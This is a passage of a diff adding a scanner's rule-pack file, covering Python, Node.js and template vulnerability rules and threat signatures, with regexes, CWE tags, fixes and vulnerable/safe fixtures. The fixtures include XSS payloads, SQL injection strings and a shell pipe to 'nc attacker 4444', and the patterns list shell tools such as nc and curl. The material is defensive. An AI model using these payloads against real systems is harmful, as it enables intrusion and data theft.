+                        confidence: 0.9,
+                        cwe: 'CWE-95',
+                        owasp: 'A03:2021',
+                        fix: 'Use ast.literal_eval() for data, or explicit dispatch for behavior',
+                        fixtures: { vulnerable: ["eval(request.form['expr'])"], safe: ["ast.literal_eval(request.form['expr'])"] }
+                    },
+                    {
+                        id: 'python.sql',
+                        title: 'SQL query built with string formatting',
+                        type: 'sql_injection',
+                        language: 'python',
+                        pattern: '\\.(?:execute|executemany|executescript|raw|extra)\\s*\\(',
+                        when: '(?:\\bf["\']|["\']\\s*%\\s*[\\w(]|\\.format\\s*\\(|["\']\\s*\\+|\\+\\s*["\'])',
+                        severity: 9,
+                        confidence: 0.9,
+                        cwe: 'CWE-89',
+                        owasp: 'A03:2021',
+                        fix: 'Pass parameters separately: cursor.execute(sql, (value,)) or use the ORM',
+                        fixtures: {
+                            vulnerable: ['cursor.execute("SELECT * FROM users WHERE name = \'%s\'" % name)'],
+                            safe: ['cursor.execute("SELECT * FROM users WHERE name = %s", (name,))']
+                        }
+                    },
+                    {
+                        id: 'python.ssti',
+                        title: 'Template rendered from a string',
+                        type: 'xss',
+                        language: 'python',
+                        pattern: '\\brender_template_string\\s*\\(',
+                        requiresSource: true,
+                        severity: 9,
+                        confidence: 0.9,
+                        cwe: 'CWE-1336',
+                        owasp: 'A03:2021',
+                        fix: 'Render a template file and pass user data as context variables',
+                        fixtures: {
+                            vulnerable: ["render_template_string(request.args.get('tpl'))"],
+                            safe: ["render_template('page.html', name=request.args.get('name'))"]
+                        }
+                    },
+                    {
+                        id: 'python.mark-safe',
+                        title: 'Autoescaping disabled for a value',
+                        type: 'xss',
+                        language: 'python',
+                        pattern: '\\b(?:Markup|mark_safe|SafeString)\\s*\\(',
+                        requiresSource: true,
+                        severity: 8,
+                        confidence: 0.9,
+                        cwe: 'CWE-79',
+                        owasp: 'A03:2021',
+                        fix: 'Let the template engine escape the value; avoid mark_safe on user data',
+                        fixtures: { vulnerable: ["mark_safe(request.GET['bio'])"], safe: ["mark_safe(escape(request.GET['bio']))"] }
+                    },
+                    {
+                        id: 'python.response',
+                        title: 'Raw HTTP response body',
+                        type: 'xss',
+                        language: 'python',
+                        pattern: '\\b(?:HttpResponse|make_response)\\s*\\(',
+                        requiresSource: true,
+                        severity: 7,
+                        confidence: 0.9,
+                        cwe: 'CWE-79',
+                        owasp: 'A03:2021',
+                        fix: 'Render a template or escape the value with html.escape()',
+                        fixtures: {
+                            vulnerable: ["return HttpResponse(request.GET['q'])"],
+                            safe: ["return HttpResponse(html.escape(request.GET['q']))"]
+                        }
+                    },
+                    {
+                        id: 'python.pickle',
+                        title: 'Unsafe deserialization',
+                        type: 'deserialization',
+                        language: 'python',
+                        pattern: '\\b(?:pickle|cPickle|marshal|shelve|dill)\\.loads?\\s*\\(',
+                        severity: 9,
+                        confidence: 0.9,
+                        cwe: 'CWE-502',
+                        owasp: 'A08:2021',
+                        fix: 'Never unpickle untrusted data; use JSON',
+                        fixtures: { vulnerable: ['pickle.loads(data)'], safe: ['json.loads(data)'] }
+                    },
+                    {
+                        id: 'python.yaml',
+                        title: 'yaml.load without SafeLoader',
+                        type: 'deserialization',
+                        language: 'python',
+                        pattern: '\\byaml\\.(?:load|load_all)\\s*\\(',
+                        unless: 'SafeLoader|CSafeLoader',
+                        severity: 8,
+                        confidence: 0.9,
+                        cwe: 'CWE-502',
+                        owasp: 'A08:2021',
+                        fix: 'Use yaml.safe_load()',
+                        fixtures: { vulnerable: ['yaml.load(stream)'], safe: ['yaml.load(stream, Loader=yaml.SafeLoader)'] }
+                    },
+                    {
+                        id: 'python.open',
+                        title: 'File access with a user-controlled path',
+                        type: 'path_traversal',
+                        language: 'python',
+                        pattern: '(?<![\\w.])(?:open|send_file)\\s*\\(',
+                        requiresSource: true,
+                        severity: 8,
+                        confidence: 0.9,
+                        cwe: 'CWE-22',
+                        owasp: 'A01:2021',
+                        fix: 'Use werkzeug.utils.secure_filename() or send_from_directory()',
+                        fixtures: {
+                            vulnerable: ["open('/srv/files/' + request.args['name'])"],
+                            safe: ["open('/srv/files/' + secure_filename(request.args['name']))"]
+                        }
+                    },
+                    {
+                        id: 'python.ssrf',
+                        title: 'Outbound request to a user-controlled URL',
+                        type: 'server_side_request_forgery',
+                        language: 'python',
+                        pattern: '\\b(?:requests\\.(?:get|post|put|patch|delete|head|request)|urllib\\.request\\.urlopen|urlopen)\\s*\\(',
+                        requiresSource: true,
+                        severity: 8,
+                        confidence: 0.9,
+                        cwe: 'CWE-918',
+                        owasp: 'A10:2021',
+                        fix: 'Validate the host against an allowlist before fetching',
+                        fixtures: {
+                            vulnerable: ["requests.get(request.args['url'])"],
+                            safe: ["requests.get('https://api.example.com/status')"]
+                        }
+                    },
+                    {
+                        id: 'python.redirect',
+                        title: 'Redirect to a user-controlled URL',
+                        type: 'open_redirect',
+                        language: 'python',
+                        pattern: '\\b(?:redirect|HttpResponseRedirect)\\s*\\(',
+                        requiresSource: true,
+                        severity: 6,
+                        confidence: 0.9,
+                        cwe: 'CWE-601',
+                        owasp: 'A01:2021',
+                        fix: 'Check the target with url_has_allowed_host_and_scheme() before redirecting',
+                        fixtures: {
+                            vulnerable: ["return redirect(request.args.get('next'))"],
+                            safe: ["return redirect(url_for('index'))"]
+                        }
+                    }
+                ]
+            },
+            {
+                name: 'javascript',
+                version: '1.0.0',
+                formatVersion: 1,
+                description: 'Node.js and Express',
+                rules: [
+                    {
+                        id: 'js.child-process',
+                        title: 'Shell command execution',
+                        type: 'command_injection',
+                        language: 'javascript',
+                        pattern: '(?<![\\w$])(?:child_process\\.|cp\\.)?(?:exec|execSync)\\s*\\(',
+                        requiresSource: true,
+                        severity: 10,
+                        confidence: 0.9,
+                        cwe: 'CWE-78',
+                        owasp: 'A03:2021',
+                        fix: 'Use execFile()/spawn() with an argument array instead of a shell string',
+                        fixtures: { vulnerable: ["exec('ping ' + req.query.host)"], safe: ["execFile('ping', [req.query.host])"] }
+                    },
+                    {
+                        id: 'js.spawn-shell',
+                        title: 'spawn with shell: true',
+                        type: 'command_injection',
+                        language: 'javascript',
+                        pattern: '\\b(?:spawn|spawnSync|execFile|execFileSync)\\s*\\(',
+                        when: '\\bshell\\s*:\\s*true\\b',
+                        severity: 9,
+                        confidence: 0.9,
+                        cwe: 'CWE-78',
+                        owasp: 'A03:2021',
+                        fix: 'Drop shell: true and pass arguments as an array',
+                        fixtures: { vulnerable: ['spawn(cmd, { shell: true })'], safe: ["spawn('ls', ['-l'])"] }
+                    },
+                    {
+                        id: 'js.eval',
+                        title: 'Dynamic code evaluation',
+                        type: 'code_injection',
+                        language: 'javascript',
+                        pattern: '(?<![\\w$.])(?:eval|(?:new\\s+)?Function|vm\\.run\\w*|vm\\.Script)\\s*\\(',
+                        requiresSource: true,
+                        severity: 10,
+                        confidence: 0.9,
+                        cwe: 'CWE-95',
+                        owasp: 'A03:2021',
+                        fix: 'Use JSON.parse() for data and explicit dispatch for behavior',
+                        fixtures: { vulnerable: ['eval(req.body.code)'], safe: ['JSON.parse(req.body.code)'] }
+                    },
+                    {
+                        id: 'js.sql',
+                        title: 'SQL query built from a string',
+                        type: 'sql_injection',
+                        language: 'javascript',
+                        pattern: '\\.(?:query|execute|raw|unsafe)\\s*\\(',
+                        when: '(?:\\$\\{|["\'`]\\s*\\+|\\+\\s*["\'`])',
+                        severity: 9,
+                        confidence: 0.9,
+                        cwe: 'CWE-89',
+                        owasp: 'A03:2021',
+                        fix: "Use placeholders: db.query('... WHERE id = ?', [id])",
+                        fixtures: {
+                            vulnerable: ["db.query('SELECT * FROM users WHERE id = ' + req.params.id)"],
+                            safe: ["db.query('SELECT * FROM users WHERE id = ?', [req.params.id])"]
+                        }
+                    },
+                    {
+                        id: 'js.nosql',
+                        title: 'Query object taken from the request',
+                        type: 'nosql_injection',
+                        language: 'javascript',
+                        pattern: '\\.(?:find|findOne|findOneAndUpdate|updateOne|updateMany|deleteOne|deleteMany|where)\\s*\\(',
+                        requiresSource: true,
+                        severity: 8,
+                        confidence: 0.9,
+                        cwe: 'CWE-943',
+                        owasp: 'A03:2021',
+                        fix: 'Cast fields to primitives (String(), Number()) or use mongo-sanitize',
+                        fixtures: {
+                            vulnerable: ['User.findOne({ name: req.body.name, password: req.body.password })'],
+                            safe: ['User.findOne({ name: String(req.body.name) })']
+                        }
+                    },
+                    {
+                        id: 'js.response',
+                        title: 'Request data written to the response',
+                        type: 'xss',
+                        language: 'javascript',
+                        pattern: '\\bres\\.(?:send|write|end)\\s*\\(',
+                        requiresSource: true,
+                        severity: 8,
+                        confidence: 0.9,
+                        cwe: 'CWE-79',
+                        owasp: 'A03:2021',
+                        fix: 'Render through a template with autoescaping or escape the value',
+                        fixtures: {
+                            vulnerable: ["res.send('<h1>' + req.query.name + '</h1>')"],
+                            safe: ['res.send(escapeHtml(req.query.name))']
+                        }
+                    },
+                    {
+                        id: 'js.fs',
+                        title: 'File access with a user-controlled path',
+                        type: 'path_traversal',
+                        language: 'javascript',
+                        pattern: '\\b(?:fs(?:\\.promises)?\\.\\w+|res\\.(?:sendFile|download))\\s*\\(',
+                        requiresSource: true,
+                        severity: 8,
+                        confidence: 0.9,
+                        cwe: 'CWE-22',
+                        owasp: 'A01:2021',
+                        fix: 'Resolve with path.resolve() and verify the result stays under the base directory',
+                        fixtures: {
+                            vulnerable: ["fs.readFile('/srv/' + req.params.file, done)"],
+                            safe: ["fs.readFile('/srv/' + path.basename(req.params.file), done)"]
+                        }
+                    },
+                    {
+                        id: 'js.ssrf',
+                        title: 'Outbound request to a user-controlled URL',
+                        type: 'server_side_request_forgery',
+                        language: 'javascript',
+                        pattern: '(?<![\\w$.])(?:fetch|axios(?:\\.\\w+)?|got|request|https?\\.(?:get|request))\\s*\\(',
+                        requiresSource: true,
+                        severity: 8,
+                        confidence: 0.9,
+                        cwe: 'CWE-918',
+                        owasp: 'A10:2021',
+                        fix: 'Validate the host against an allowlist before fetching',
+                        fixtures: { vulnerable: ['fetch(req.query.url)'], safe: ["fetch('https://api.example.com/status')"] }
+                    },
+                    {
+                        id: 'js.redirect',
+                        title: 'Redirect to a user-controlled URL',
+                        type: 'open_redirect',
+                        language: 'javascript',
+                        pattern: '\\bres\\.redirect\\s*\\(',
+                        requiresSource: true,
+                        severity: 6,
+                        confidence: 0.9,
+                        cwe: 'CWE-601',
+                        owasp: 'A01:2021',
+                        fix: 'Redirect only to relative paths or an allowlist of hosts',
+                        fixtures: { vulnerable: ['res.redirect(req.query.next)'], safe: ["res.redirect('/home')"] }
+                    },
+                    {
+                        id: 'js.unserialize',
+                        title: 'node-serialize unserialize()',
+                        type: 'deserialization',
+                        language: 'javascript',
+                        pattern: '\\bunserialize\\s*\\(',
+                        requiresSource: true,
+                        severity: 9,
+                        confidence: 0.9,
+                        cwe: 'CWE-502',
+                        owasp: 'A08:2021',
+                        fix: 'Use JSON.parse(); node-serialize executes functions',
+                        fixtures: { vulnerable: ['serialize.unserialize(req.cookies.profile)'], safe: ['JSON.parse(req.cookies.profile)'] }
+                    },
+                    {
+                        id: 'js.ast.dynamic-require',
+                        title: 'require() of a user-controlled module path',
+                        type: 'code_injection',
+                        language: 'javascript',
+                        query: { type: 'call', callee: 'require', argument: 0, argumentIs: 'dynamic' },
+                        requiresSource: true,
+                        severity: 9,
+                        confidence: 0.9,
+                        cwe: 'CWE-829',
+                        owasp: 'A08:2021',
+                        fix: 'Map the input to a fixed set of module paths instead of building the path',
+                        fixtures: {
+                            vulnerable: ["const plugin = require('./plugins/' + req.query.name);"],
+                            safe: ["const plugin = require('./plugins/core');"]
+                        }
+                    },
+                    {
+                        id: 'js.ast.dynamic-regexp',
+                        title: 'RegExp built from request data',
+                        type: 'regex_injection',
+                        language: 'javascript',
+                        query: { type: 'new', callee: 'RegExp', argument: 0, argumentIs: 'dynamic' },
+                        requiresSource: true,
+                        severity: 6,
+                        confidence: 0.85,
+                        cwe: 'CWE-1333',
+                        owasp: 'A04:2021',
+                        fix: 'Escape the input before building a RegExp, or match it as a plain string',
+                        fixtures: {
+                            vulnerable: ['const matcher = new RegExp(req.query.q);'],
+                            safe: ["const matcher = new RegExp('^[a-z]+$');"]
+                        }
+                    }
+                ]
+            },
+            {
+                name: 'html-templates',
+                version: '1.0.0',
+                formatVersion: 1,
+                description: 'Jinja, Django, Handlebars, EJS, ERB, Vue, Angular and React templates',
+                rules: [
+                    {
+                        id: 'html.jinja-safe',
+                        title: 'Autoescaping bypassed with |safe',
+                        type: 'xss',
+                        language: 'html',
+                        pattern: '\\{\\{[^}]*\\|\\s*safe\\b[^}]*\\}\\}',
+                        severity: 8,
+                        confidence: 0.9,
+                        cwe: 'CWE-79',
+                        owasp: 'A03:2021',
+                        fix: 'Remove |safe and let the engine escape, or sanitize before marking safe',
+                        fixtures: { vulnerable: ['<div>{{ bio|safe }}</div>'], safe: ['<div>{{ bio }}</div>'] }
+                    },
+                    {
+                        id: 'html.autoescape-off',
+                        title: 'Autoescaping disabled',
+                        type: 'xss',
+                        language: 'html',
+                        pattern: '\\{%-?\\s*autoescape\\s+(?:false|off)\\b',
+                        severity: 8,
+                        confidence: 0.9,
+                        cwe: 'CWE-79',
+                        owasp: 'A03:2021',
+                        fix: 'Keep autoescaping on for the whole template',
+                        fixtures: {
+                            vulnerable: ['{% autoescape false %}{{ bio }}{% endautoescape %}'],
+                            safe: ['{% autoescape true %}{{ bio }}{% endautoescape %}']
+                        }
+                    },
+                    {
+                        id: 'html.triple-stash',
+                        title: 'Unescaped Handlebars/Mustache output',
+                        type: 'xss',
+                        language: 'html',
+                        pattern: '\\{\\{\\{[^}]*\\}\\}\\}|\\{\\{&[^}]*\\}\\}',
+                        severity: 8,
+                        confidence: 0.9,
+                        cwe: 'CWE-79',
+                        owasp: 'A03:2021',
+                        fix: 'Use {{ value }} so the value is escaped',
+                        fixtures: { vulnerable: ['<div>{{{ bio }}}</div>'], safe: ['<div>{{ bio }}</div>'] }
+                    },
+                    {
+                        id: 'html.ejs-raw',
+                        title: 'Unescaped EJS output',
+                        type: 'xss',
+                        language: 'html',
+                        pattern: '<%-(?!-)[\\s\\S]*?%>',
+                        severity: 8,
+                        confidence: 0.9,
+                        cwe: 'CWE-79',
+                        owasp: 'A03:2021',
+                        fix: 'Use <%= value %> so the value is escaped',
+                        fixtures: { vulnerable: ['<div><%- bio %></div>'], safe: ['<div><%= bio %></div>'] }
+                    },
+                    {
+                        id: 'html.erb-raw',
+                        title: 'Unescaped ERB output',
+                        type: 'xss',
+                        language: 'html',
+                        pattern: '<%==|\\.html_safe\\b|\\braw\\s*\\(',
+                        severity: 8,
+                        confidence: 0.9,
+                        cwe: 'CWE-79',
+                        owasp: 'A03:2021',
+                        fix: 'Drop raw/html_safe and let ERB escape',
+                        fixtures: { vulnerable: ['<%= raw(@bio) %>'], safe: ['<%= @bio %>'] }
+                    },
+                    {
+                        id: 'html.v-html',
+                        title: 'Vue v-html binding',
+                        type: 'xss',
+                        language: 'html',
+                        pattern: '\\bv-html\\s*=',
+                        severity: 7,
+                        confidence: 0.9,
+                        cwe: 'CWE-79',
+                        owasp: 'A03:2021',
+                        fix: 'Bind text with {{ }} or sanitize with DOMPurify first',
+                        fixtures: { vulnerable: ['<div v-html="bio"></div>'], safe: ['<div v-text="bio"></div>'] }
+                    },
+                    {
+                        id: 'html.angular-html',
+                        title: 'Angular HTML binding',
+                        type: 'xss',
+                        language: 'html',
+                        pattern: '\\[innerHTML\\]\\s*=|\\bng-bind-html(?:-unsafe)?\\s*=',
+                        severity: 7,
+                        confidence: 0.9,
+                        cwe: 'CWE-79',
+                        owasp: 'A03:2021',
+                        fix: "Bind text, or keep Angular's sanitizer in the path",
+                        fixtures: { vulnerable: ['<div [innerHTML]="bio"></div>'], safe: ['<div [textContent]="bio"></div>'] }
+                    },
+                    {
+                        id: 'html.react-dangerous',
+                        title: 'dangerouslySetInnerHTML',
+                        type: 'xss',
+                        language: 'html',
+                        pattern: '\\bdangerouslySetInnerHTML\\s*=',
+                        severity: 7,
+                        confidence: 0.9,
+                        cwe: 'CWE-79',
+                        owasp: 'A03:2021',
+                        fix: 'Render text as children or sanitize with DOMPurify first',
+                        fixtures: { vulnerable: ['<div dangerouslySetInnerHTML={{ __html: bio }} />'], safe: ['<div>{bio}</div>'] }
+                    },
+                    {
+                        id: 'html.event-handler',
+                        title: 'Template value inside an event handler attribute',
+                        type: 'xss',
+                        language: 'html',
+                        pattern: '\\bon\\w+\\s*=\\s*(["\'])(?:(?!\\1)[^<{$])*(?:\\{\\{|<%|\\$\\{)',
+                        flags: 'i',
+                        severity: 8,
+                        confidence: 0.9,
+                        cwe: 'CWE-79',
+                        owasp: 'A03:2021',
+                        fix: 'Attach listeners in script and pass data through data-* attributes',
+                        fixtures: {
+                            vulnerable: ['<button onclick="select(\'{{ id }}\')">Go</button>'],
+                            safe: ['<button data-id="{{ id }}">Go</button>']
+                        }
+                    },
+                    {
+                        id: 'html.script-value',
+                        title: 'Template value inside an inline script',
+                        type: 'xss',
+                        language: 'html',
+                        pattern: '<script\\b[^>]*>[^<]*(?:\\{\\{(?![^}]*\\|\\s*(?:tojson|escapejs|json_script))|<%=)[\\s\\S]*?<\\/script>',
+                        flags: 'i',
+                        severity: 7,
+                        confidence: 0.9,
+                        cwe: 'CWE-79',
+                        owasp: 'A03:2021',
+                        fix: 'Serialize with |tojson or json_script and read it from a data element',
+                        fixtures: {
+                            vulnerable: ['<script>var user = "{{ name }}";</script>'],
+                            safe: ['<script>var user = {{ name|tojson }};</script>']
+                        }
+                    },
+                    {
+                        id: 'html.url-value',
+                        title: 'Template value at the start of a URL attribute',
+                        type: 'xss',
+                        language: 'html',
+                        pattern: '\\b(?:href|src|action|formaction)\\s*=\\s*["\']\\s*(?:\\{\\{|<%=|\\$\\{)',
+                        flags: 'i',
+                        severity: 6,
+                        confidence: 0.9,
+                        cwe: 'CWE-79',
+                        owasp: 'A03:2021',
+                        fix: 'Validate the scheme (http/https) before inserting a URL',
+                        fixtures: { vulnerable: ['<a href="{{ link }}">Profile</a>'], safe: ['<a href="/profile/{{ id }}">Profile</a>'] }
+                    }
+                ]
+            }
+        ],
+        threats: [
+            {
+                name: 'threat-signatures',
+                version: '1.2.1',
+                formatVersion: 1,
+                description: 'Content signatures used by the AI threat analyzer',
+                rules: [
+                    {
+                        id: 'threat.xss.script-tag',
+                        title: '<script> element',
+                        type: 'xss',
+                        language: 'any',
+                        pattern: '<script\\b[^>]*>',
+                        flags: 'i',
+                        severity: 'critical',
+                        confidence: 0.6,
+                        cwe: 'CWE-79',
+                        owasp: 'A03:2021',
+                        fix: 'Encode output for its context and keep a strict Content-Security-Policy',
+                        fixtures: {
+                            vulnerable: [
+                                '<script>alert(1)</script>',
+                                '?q=%3Cscript%3Ealert(1)%3C%2Fscript%3E',
+                                '&#x3C;script&#x3E;alert(1)&#x3C;/script&#x3E;',
+                                '?q=%26lt%3Bscript%26gt%3B',
+                                'PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
+                                '\\u003cscript\\u003e'
+                            ],
+                            safe: ['<p>scripts are loaded lazily</p>', 'const description = "a manuscript";']
+                        }
+                    },
+                    {
+                        id: 'threat.xss.javascript-url',
+                        title: 'javascript: URL',
+                        type: 'xss',
+                        language: 'any',
+                        pattern: 'javascript:',
+                        flags: 'i',
+                        severity: 'high',
+                        confidence: 0.6,
+                        cwe: 'CWE-79',
+                        owasp: 'A03:2021',
+                        fix: 'Encode output for its context and keep a strict Content-Security-Policy',
+                        fixtures: { vulnerable: ['javascript:alert(1)'] }
+                    },
+                    {
+                        id: 'threat.xss.event-handler',
+                        title: 'Event handler attribute',
+                        type: 'xss',
+                        language: 'any',
+                        pattern: 'on\\w+\\s*=',
+                        flags: 'i',
+                        severity: 'high',
+                        confidence: 0.6,
+                        cwe: 'CWE-79',
+                        owasp: 'A03:2021',
+                        fix: 'Encode output for its context and keep a strict Content-Security-Policy',
+                        fixtures: { vulnerable: ['<img onerror=alert(1)>'] }
+                    },
+                    {
+                        id: 'threat.xss.iframe',
+                        title: '<iframe> element',
+                        type: 'xss',
+                        language: 'any',
+                        pattern: '<iframe[^>]*>',
+                        flags: 'i',
+                        severity: 'medium',
+                        confidence: 0.6,
+                        cwe: 'CWE-79',
+                        owasp: 'A03:2021',
+                        fix: 'Encode output for its context and keep a strict Content-Security-Policy',
+                        fixtures: { vulnerable: ['<iframe src="//x">'] }
+                    },
+                    {
+                        id: 'threat.xss.object',
+                        title: '<object> element',
+                        type: 'xss',
+                        language: 'any',
+                        pattern: '<object[^>]*>',
+                        flags: 'i',
+                        severity: 'medium',
+                        confidence: 0.6,
+                        cwe: 'CWE-79',
+                        owasp: 'A03:2021',
+                        fix: 'Encode output for its context and keep a strict Content-Security-Policy',
+                        fixtures: { vulnerable: ['<object data="x.swf">'] }
+                    },
+                    {
+                        id: 'threat.xss.embed',
+                        title: '<embed> element',
+                        type: 'xss',
+                        language: 'any',
+                        pattern: '<embed[^>]*>',
+                        flags: 'i',
+                        severity: 'low',
+                        confidence: 0.6,
+                        cwe: 'CWE-79',
+                        owasp: 'A03:2021',
+                        fix: 'Encode output for its context and keep a strict Content-Security-Policy',
+                        fixtures: { vulnerable: ['<embed src="x.swf">'] }
+                    },
+                    {
+                        id: 'threat.injection.union-select',
+                        title: 'UNION SELECT',
+                        type: 'injection',
+                        language: 'any',
+                        pattern: 'union\\s+select',
+                        flags: 'i',
+                        severity: 'critical',
+                        confidence: 0.6,
+                        cwe: 'CWE-89',
+                        owasp: 'A03:2021',
+                        fix: 'Use parameterized queries and validate input against an allowlist',
+                        fixtures: { vulnerable: ["1' UNION SELECT password FROM users", "1' UNION/**/SELECT password FROM users", "1'%20UNION%20SELECT%20password"] }
+                    },
+                    {
+                        id: 'threat.injection.drop-table',
+                        title: 'DROP TABLE',
+                        type: 'injection',
+                        language: 'any',
+                        pattern: 'drop\\s+table',
+                        flags: 'i',
+                        severity: 'critical',
+                        confidence: 0.6,
+                        cwe: 'CWE-89',
+                        owasp: 'A03:2021',
+                        fix: 'Use parameterized queries and validate input against an allowlist',
+                        fixtures: { vulnerable: ["'; DROP TABLE users"] }
+                    },
+                    {
+                        id: 'threat.injection.insert-into',
+                        title: 'INSERT INTO',
+                        type: 'injection',
+                        language: 'any',
+                        pattern: 'insert\\s+into',
+                        flags: 'i',
+                        severity: 'high',
+                        confidence: 0.6,
+                        cwe: 'CWE-89',
+                        owasp: 'A03:2021',
+                        fix: 'Use parameterized queries and validate input against an allowlist',
+                        fixtures: { vulnerable: ["'; INSERT INTO admins VALUES ('x')"] }
+                    },
+                    {
+                        id: 'threat.injection.delete-from',
+                        title: 'DELETE FROM',
+                        type: 'injection',
+                        language: 'any',
+                        pattern: 'delete\\s+from',
+                        flags: 'i',
+                        severity: 'high',
+                        confidence: 0.6,
+                        cwe: 'CWE-89',
+                        owasp: 'A03:2021',
+                        fix: 'Use parameterized queries and validate input against an allowlist',
+                        fixtures: { vulnerable: ["'; DELETE FROM users"] }
+                    },
+                    {
+                        id: 'threat.injection.quote-comment',
+                        title: 'Quote closed by a SQL comment',
+                        type: 'injection',
+                        language: 'any',
+                        pattern: '[\'"]\\s*(?:--|#)(?=\\s|$)',
+                        flags: 'm',
+                        context: 'string',
+                        severity: 'medium',
+                        confidence: 0.7,
+                        cwe: 'CWE-89',
+                        owasp: 'A03:2021',
+                        fix: 'Use parameterized queries and validate input against an allowlist',
+                        fixtures: {
+                            vulnerable: ["admin'--", 'db.query("SELECT * FROM users WHERE name = \'" + name + "\' -- ")'],
+                            safe: ['for (let i = 10; i > 0; i--) count--;', "const flag = '--verbose';", "$('#menu').hide();"]
+                        }
+                    },
+                    {
+                        id: 'threat.injection.stacked-query',
+                        title: 'Stacked SQL statement',
+                        type: 'injection',
+                        language: 'any',
+                        pattern: ';\\s*(?:select|insert|update|delete|drop|truncate|alter|create|exec(?:ute)?|declare|shutdown)\\b',
+                        flags: 'i',
+                        context: 'string',
+                        severity: 'high',
+                        confidence: 0.7,
+                        cwe: 'CWE-89',
+                        owasp: 'A03:2021',
+                        fix: 'Use parameterized queries and validate input against an allowlist',
+                        fixtures: {
+                            vulnerable: ["'; DROP TABLE users", 'db.query("SELECT * FROM orders WHERE id = 1; DELETE FROM orders")'],
+                            safe: ['count++; delete cache[key];', 'value = read(); select(value);', '"a; b"']
+                        }
+                    },
+                    {
+                        id: 'threat.injection.pipe',
+                        title: 'Pipe into a shell command',
+                        type: 'injection',
+                        language: 'any',
+                        pattern: '(?<!\\|)\\|(?!\\|)\\s*(?:ls|cat|rm|mkdir|chmod|chown|wget|curl|nc|sh|bash|id|whoami)(?=\\s|[\'"`]|$)',
+                        flags: 'im',
+                        context: 'string',
+                        severity: 'medium',
+                        confidence: 0.6,
+                        cwe: 'CWE-78',
+                        owasp: 'A03:2021',
+                        fix: 'Pass arguments to execFile/spawn as an array instead of building a shell command',
+                        fixtures: {
+                            vulnerable: ["os.system('ping -c1 ' + host + ' | nc attacker 4444')", 'exec("grep " + term + " | sh")'],
+                            safe: ['const ok = a || b;', 'if (x | mask) flags |= 1;', 'const sep = "a|b";', '"cat || ls"']
+                        }
+                    },
+                    {
+                        id: 'threat.injection.or-tautology',
+                        title: 'OR 1=1 tautology',
+                        type: 'injection',
+                        language: 'any',
+                        pattern: '\\bOR\\b\\s+1=1',
+                        flags: 'i',
+                        severity: 'medium',
+                        confidence: 0.6,
+                        cwe: 'CWE-89',
+                        owasp: 'A03:2021',
+                        fix: 'Use parameterized queries and validate input against an allowlist',
+                        fixtures: { vulnerable: ["' OR 1=1"] }
+                    },
+                    {
+                        id: 'threat.injection.and-tautology',
+                        title: 'AND 1=1 tautology',
+                        type: 'injection',
+                        language: 'any',
+                        pattern: '\\bAND\\b\\s+1=1',
+                        flags: 'i',
+                        severity: 'medium',
+                        confidence: 0.6,
+                        cwe: 'CWE-89',
+                        owasp: 'A03:2021',
+                        fix: 'Use parameterized queries and validate input against an allowlist',
+                        fixtures: { vulnerable: ["' AND 1=1"] }
+                    },
+                    {
+                        id: 'threat.csrf.post-form',
+                        title: 'POST form',
+                        type: 'csrf',
+                        language: 'any',
+                        pattern: '<form[^>]*method\\s*=\\s*["\']?post["\']?[^>]*>',
+                        flags: 'i',
+                        severity: 'high',
+                        confidence: 0.6,
+                        cwe: 'CWE-352',
+                        owasp: 'A01:2021',
+                        fix: 'Require a per-session CSRF token and SameSite cookies on state-changing requests',
+                        fixtures: { vulnerable: ['<form method="post">'] }
+                    },
+                    {
+                        id: 'threat.csrf.token-input',
+                        title: '_token hidden input',
+                        type: 'csrf',
+                        language: 'any',
+                        pattern: '<input[^>]*name\\s*=\\s*["\']?_token["\']?[^>]*>',
+                        flags: 'i',
+                        severity: 'medium',
+                        confidence: 0.6,
+                        cwe: 'CWE-352',
+                        owasp: 'A01:2021',
+                        fix: 'Require a per-session CSRF token and SameSite cookies on state-changing requests',
+                        fixtures: { vulnerable: ['<input name="_token">'] }
+                    },
+                    {
+                        id: 'threat.csrf.csrf-meta',
+                        title: 'csrf-token meta tag',
+                        type: 'csrf',
+                        language: 'any',
+                        pattern: '<meta[^>]*name\\s*=\\s*["\']?csrf-token["\']?[^>]*>',
+                        flags: 'i',
+                        severity: 'medium',
+                        confidence: 0.6,
+                        cwe: 'CWE-352',
+                        owasp: 'A01:2021',
+                        fix: 'Require a per-session CSRF token and SameSite cookies on state-changing requests',
+                        fixtures: { vulnerable: ['<meta name="csrf-token" content="x">'] }
+                    },
+                    {
+                        id: 'threat.clickjacking.remote-iframe',
+                        title: 'iframe of a remote page',
+                        type: 'clickjacking',
+                        language: 'any',
+                        pattern: '<iframe[^>]*src\\s*=\\s*["\']?https?:\\/\\/',
+                        flags: 'i',
+                        severity: 'medium',
+                        confidence: 0.6,
+                        cwe: 'CWE-1021',
+                        owasp: 'A04:2021',
+                        fix: "Send Content-Security-Policy: frame-ancestors 'self' (or X-Frame-Options: DENY)",
+                        fixtures: { vulnerable: ['<iframe src="https://bank.example">'] }
+                    },
+                    {
+                        id: 'threat.clickjacking.absolute-position',
+                        title: 'Absolutely positioned element',
+                        type: 'clickjacking',
+                        language: 'any',
+                        pattern: 'style\\s*=\\s*["\']?position\\s*:\\s*absolute',
+                        flags: 'i',
+                        severity: 'low',
+                        confidence: 0.6,
+                        cwe: 'CWE-1021',
+                        owasp: 'A04:2021',
+                        fix: "Send Content-Security-Policy: frame-ancestors 'self' (or X-Frame-Options: DENY)",
+                        fixtures: { vulnerable: ['style="position:absolute"'] }
+                    },
+                    {
+                        id: 'threat.clickjacking.z-index',
+                        title: 'z-index stacking',
+                        type: 'clickjacking',
+                        language: 'any',
+                        pattern: 'z-index\\s*:\\s*\\d+',
+                        flags: 'i',
+                        severity: 'low',
+                        confidence: 0.6,
+                        cwe: 'CWE-1021',
+                        owasp: 'A04:2021',
+                        fix: "Send Content-Security-Policy: frame-ancestors 'self' (or X-Frame-Options: DENY)",
+                        fixtures: { vulnerable: ['z-index: 9999'] }
+                    }
+                ]
+            }
+        ]
+    };
+
+    // تصدير للاستخدام العام
+    if (typeof module !== 'undefined' && module.exports) {
+        module.exports = { BUILTIN_RULE_PACKS };
+    } else {
+        root.BUILTIN_RULE_PACKS = BUILTIN_RULE_PACKS;
+    }
+})(typeof window !== 'undefined' ? window : globalThis);